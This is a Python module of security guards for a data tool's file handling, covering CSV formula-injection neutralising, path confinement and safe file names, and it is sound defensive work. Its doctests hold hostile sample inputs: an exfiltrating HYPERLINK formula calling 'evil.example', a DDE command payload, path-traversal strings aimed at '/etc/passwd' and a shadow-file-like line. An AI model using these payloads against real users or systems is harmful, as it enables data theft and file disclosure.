"""Guards for the files the commands read and write: cells that cannot become formulas, names
that cannot become paths, paths that cannot leave their folder, outputs that cannot replace an
input, data files that are regular files, error lines that fit a screen.

Each guard is a small function that the writers and readers of every package call; the
messages are one line and name the file or value at fault without echoing a file's content.
The spreadsheet rule follows OWASP's "CSV Injection" advice (OWASP Foundation, 2023): a text
cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is prefixed with a
single quote, so that Excel and LibreOffice show the text instead of evaluating it.
"""
from __future__ import annotations

import hashlib
import os
import re
import stat
from collections.abc import Callable, Iterable
from pathlib import Path

__all__ = ["FORMULA_START", "neutralise_cell", "neutralise_frame", "is_formula_like", "safe_file_name",
           "confined_path", "check_regular_file", "one_line", "MAX_LINE", "check_output_path", "missing_column_hint",
           "check_figure_format", "FIGURE_FORMATS", "available_memory", "check_memory"]

#: First characters that make a spreadsheet evaluate a cell (OWASP's list).
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[-+]?(?:\d+\.?\d*|\.\d+)(?:[eE][-+]?\d+)?|[-+]?(?:inf|nan)", re.IGNORECASE)


def is_formula_like(value) -> bool:
    """True for text that a spreadsheet would evaluate: it starts with one of
    :data:`FORMULA_START` and is not a plain number such as ``-0.25``.

    Examples
    --------
    >>> is_formula_like("=1+1"), is_formula_like("-0.25"), is_formula_like("-A"), is_formula_like(3)
    (True, False, True, False)
    """
    return (isinstance(value, str) and value[:1] in FORMULA_START
            and not _PLAIN_NUMBER.fullmatch(value.strip()))


def neutralise_cell(value):
    """The value to write in a CSV or spreadsheet cell: formula-like text gets a leading
    single quote (the text stays visible as it was); anything else is returned unchanged.

    Examples
    --------
    >>> neutralise_cell('=HYPERLINK("http://evil.example/?x="&A1,"click")')
    '\\'=HYPERLINK("http://evil.example/?x="&A1,"click")'
    >>> neutralise_cell("=cmd|' /C calc'!A0")
    "'=cmd|' /C calc'!A0"
    >>> neutralise_cell("-0.5"), neutralise_cell(-0.5), neutralise_cell("Zhejiang")
    ('-0.5', -0.5, 'Zhejiang')
    """
    return "'" + value if is_formula_like(value) else value


def _neutral_index(index):
    import pandas as pd

    if isinstance(index, pd.MultiIndex):
        levels = [_neutral_index(level) for level in index.levels]
        return index.set_levels(levels).set_names([neutralise_cell(n) for n in index.names])
    if index.dtype == object or pd.api.types.is_string_dtype(index.dtype):
        out = pd.Index([neutralise_cell(v) for v in index], name=neutralise_cell(index.name))
    else:
        out = index.rename(neutralise_cell(index.name))
    return out


def neutralise_frame(frame):
    """A copy of a :class:`pandas.DataFrame` whose text cells, column names and index labels
    cannot become formulas (:func:`neutralise_cell`); numbers are untouched.

    Examples
    --------
    >>> import pandas as pd
    >>> df = pd.DataFrame({"=A": ["@SUM(1)", "ok"], "x": [-1.0, 2.0]}, index=["+b", "c"])
    >>> neutralise_frame(df).to_csv().splitlines()
    [",'=A,x", "'+b,'@SUM(1),-1.0", 'c,ok,2.0']
    """
    import pandas as pd

    out = frame.copy()
    for j in range(out.shape[1]):
        col = out.iloc[:, j]
        if col.dtype == object or pd.api.types.is_string_dtype(col.dtype) or isinstance(col.dtype, pd.CategoricalDtype):
            out.isetitem(j, col.astype(object).map(neutralise_cell))
    out.columns = _neutral_index(out.columns)
    out.index = _neutral_index(out.index)
    return out


_UNSAFE_CHARS = re.compile(r'[\x00-\x1f\x7f<>:"/\\|?*]')
_RESERVED = re.compile(r"(?i)^(con|prn|aux|nul|com\d|lpt\d)(\..*)?$")


def safe_file_name(name, *, max_length: int = 80) -> str:
    """A file name made from ``name`` (a case, composite or condition name) that stays in its
    folder on every system: no path separators, no ``..``, no control or Windows-reserved
    characters, no leading dot, not a reserved device name, at most ``max_length`` characters.
    A name that had to change gets a short hash of the original, so that two different names
    never give the same file. Chinese and other letters are kept.

    Examples
    --------
    >>> safe_file_name("digital_capacity"), safe_file_name("数字政府")
    ('digital_capacity', '数字政府')
    >>> name = safe_file_name("../../../../../evil_comp")
    >>> "/" in name, name.startswith("."), name[:-9]
    (False, False, '_.._.._.._.._evil_comp')
    >>> safe_file_name("a/b") != safe_file_name("a_b")
    True
    """
    text = str(name)
    clean = _UNSAFE_CHARS.sub("_", text).strip(" .")
    if _RESERVED.match(clean):
        clean = "_" + clean
    clean = clean.lstrip(".") or "_"
    if clean != text or len(clean) > max_length:
        digest = hashlib.sha256(text.encode("utf-8", "surrogatepass")).hexdigest()[:8]
        clean = f"{clean[:max_length - 9]}-{digest}"
    return clean


def confined_path(folder, relative, *, what: str = "file", error: type[Exception] = ValueError) -> Path:
    """``folder / relative`` after checking that it stays inside ``folder``: no absolute path,
    no ``..`` and no symbolic link that leads out of the folder.

    Examples
    --------
    >>> import tempfile
    >>> d = tempfile.mkdtemp()
    >>> confined_path(d, "tables/a.csv").name
    'a.csv'
    >>> confined_path(d, "../../etc/passwd", what="table")
    Traceback (most recent call last):
    ...
    ValueError: table '../../etc/passwd' is outside the folder ...: only files inside it are read
    """
    folder = Path(folder)
    rel = str(relative)
    root = folder.resolve()
    bad = (not rel or Path(rel).is_absolute() or rel.startswith(("/", "\\")) or re.match(r"^[A-Za-z]:", rel)
           or ".." in re.split(r"[/\\]", rel))
    target = (folder / rel).resolve() if not bad else None
    if bad or not target.is_relative_to(root):
        raise error(f"{what} {one_line(rel, 120)!r} is outside the folder {folder.name!r}: only files inside it are read")
    return folder / rel


def check_regular_file(path, *, what: str = "data file", error: type[Exception] = ValueError) -> Path:
    """Check that ``path`` names a regular file that can be read (not a folder, a device such
    as ``/dev/zero``, a pipe or a socket), before anything reads it.

    Examples
    --------
    >>> check_regular_file("/dev/zero")
    Traceback (most recent call last):
    ...
    ValueError: data file '/dev/zero' is not a regular file (a device, pipe or socket): give a CSV file
    """
    p = Path(path)
    shown = one_line(str(path), 200)
    try:
        st = p.stat()
    except FileNotFoundError:
        raise error(f"{what} {shown!r} does not exist") from None
    except OSError as exc:
        raise error(f"cannot read {what} {shown!r}: {exc.strerror or exc}") from None
    if stat.S_ISDIR(st.st_mode):
        raise error(f"{what} {shown!r} is a folder, not a file")
    if not stat.S_ISREG(st.st_mode):
        raise error(f"{what} {shown!r} is not a regular file (a device, pipe or socket): give a CSV file")
    if not os.access(p, os.R_OK):
        raise error(f"cannot read {what} {shown!r}: permission denied")
    return p


#: The longest error or warning line the commands print (about four lines of a terminal).
MAX_LINE = 400


def one_line(text, limit: int = MAX_LINE) -> str:
    """``text`` as one line of at most ``limit`` characters: line breaks become spaces and the
    middle of a longer text is cut, with the number of characters left out.

    Examples
    --------
    >>> one_line("a\\nb")
    'a b'
    >>> len(one_line("x" * 10_000)) <= 400
    True
    """
    s = " ".join(str(text).split("\n"))
    s = s.replace("\r", " ")
    if len(s) <= limit:
        return s
    cut = len(s) - limit + 40
    head = (limit - 40) * 2 // 3
    return f"{s[:head]} ...[{cut} characters left out]... {s[head + cut:]}"


def check_output_path(path, *, inputs: Iterable = (), results_folder_of: Callable[[Path], Path | None] | None = None,
                      owned: Iterable[str] = (), protected: Iterable[str] = ("results.json", "manifest.json",
                                                                            "tables", "figures"),
                      force: bool = False, what: str = "output", error: type[Exception] = ValueError) -> Path:
    """Check the rule for every output file: it is never an input of the run; inside a results
    folder it may be a new file or one of the names the command owns (``owned``, e.g.
    ``report.html``) and, with ``force``, another existing page, but never a ``protected`` file
    of the folder.

    ``results_folder_of(path)`` returns the results folder that holds ``path`` (or None).

    Examples
    --------
    >>> import tempfile, pathlib
    >>> d = pathlib.Path(tempfile.mkdtemp())
    >>> of = lambda p: d if d in p.parents else None
    >>> _ = (d / "report.html").write_text("<html></html>")
    >>> check_output_path(d / "report.html", results_folder_of=of, owned=["comparison.html"])
    Traceback (most recent call last):
    ...
    ValueError: output 'report.html' is a file of the results folder ...; write it elsewhere or use --force
    >>> check_output_path(d / "report.html", results_folder_of=of, owned=["report.html"]).name
    'report.html'
    """
    target = Path(path).absolute()
    resolved = target.resolve()
    for p in inputs:
        if p is not None and Path(p).resolve() == resolved:
            raise error(f"the {what} would overwrite its input {target.name!r}; choose another file "
                        "(an input is never overwritten)")
    folder = results_folder_of(resolved) if results_folder_of else None
    if folder is not None:
        rel = resolved.relative_to(Path(folder).resolve())
        if rel.parts and rel.parts[0] in set(protected):
            raise error(f"{what} {rel.as_posix()!r} is part of the results folder {Path(folder).name!r}; "
                        "write it somewhere else (a results folder is never overwritten)")
        if rel.as_posix() not in set(owned) and resolved.exists() and not force:
            raise error(f"{what} {rel.as_posix()!r} is a file of the results folder {Path(folder).name!r}; "
                        "write it elsewhere or use --force")
    return target


#: Figure formats matplotlib writes without extra software.
FIGURE_FORMATS = ("png", "svg", "pdf")


def check_figure_format(path, *, formats: Iterable[str] = FIGURE_FORMATS, option: str = "--plot",
                        error: type[Exception] = ValueError) -> str:
    """The format of a figure file from its suffix, refused before any computation when it is
    not one of ``formats``.

    Examples
    --------
    >>> check_figure_format("c.PNG")
    'png'
    >>> check_figure_format("cl.txt")
    Traceback (most recent call last):
    ...
    ValueError: --plot 'cl.txt': unsupported format '.txt'; use a file ending in .png, .svg or .pdf
    """
    formats = tuple(formats)
    suffix = Path(str(path)).suffix.lower().lstrip(".")
    if suffix not in formats:
        shown = f"'.{suffix}'" if suffix else "(no suffix)"
        raise error(f"{option} {one_line(str(path), 200)!r}: unsupported format {shown}; use a file ending in "
                    + ", ".join(f".{f}" for f in formats[:-1]) + f" or .{formats[-1]}")
    return suffix


def missing_column_hint(wanted: str, columns) -> str:
    """The end of an error for a column not found in a file's header, echoing no more of the
    header than needed: the closest column name, else (for a header of several columns) a few
    column names, each cut short; a one-column header (not a table, or another separator) is
    not echoed at all.

    Examples
    --------
    >>> missing_column_hint("province", ["Province", "Y", "A"])
    "did you mean 'Province'?"
    >>> missing_column_hint("province", ["root:$6$abc:19000:0:99999:7:::"])
    'the header has one column only: give a CSV file separated by commas, semicolons or tabs'
    """
    import difflib

    columns = [str(c) for c in columns]
    close = difflib.get_close_matches(str(wanted), columns, n=1, cutoff=0.6)
    if not close:
        lower = {c.lower(): c for c in columns}
        close = [lower[str(wanted).lower()]] if str(wanted).lower() in lower else []
    if close:
        return f"did you mean {one_line(close[0], 60)!r}?"
    if len(columns) <= 1:
        return "the header has one column only: give a CSV file separated by commas, semicolons or tabs"
    shown = ", ".join(repr(one_line(c, 40)) for c in columns[:8])
    more = f" and {len(columns) - 8} more" if len(columns) > 8 else ""
    return f"columns are: {shown}{more}"


def available_memory() -> int | None:
    """Bytes of memory the system can give without swapping (Linux ``MemAvailable``), or None
    where it cannot be read."""
    try:
        with open("/proc/meminfo", encoding="ascii") as fh:
            for line in fh:
                if line.startswith("MemAvailable:"):
                    return int(line.split()[1]) * 1024
    except (OSError, ValueError, IndexError):
        pass
    try:
        return os.sysconf("SC_AVPHYS_PAGES") * os.sysconf("SC_PAGE_SIZE")
    except (ValueError, OSError, AttributeError):
        return None


def check_memory(needed: float, *, what: str, error: type[Exception] = ValueError,
                 available: int | None = None) -> None:
    """Refuse, before it starts, a step whose estimated memory ``needed`` (bytes) exceeds what
    the machine has available, instead of letting the system kill it halfway.

    Examples
    --------
    >>> check_memory(3e9, what="the run of 10,000,000 cases", available=2_000_000_000)
    Traceback (most recent call last):
    ...
    ValueError: the run of 10,000,000 cases needs about 3.0 GB of memory and 2.0 GB are available: ...
    """
    free = available_memory() if available is None else available
    if free is not None and needed > free:
        raise error(f"{what} needs about {needed / 1e9:.1f} GB of memory and {free / 1e9:.1f} GB are available: "
                    "free memory, use a larger machine or analyse fewer cases")
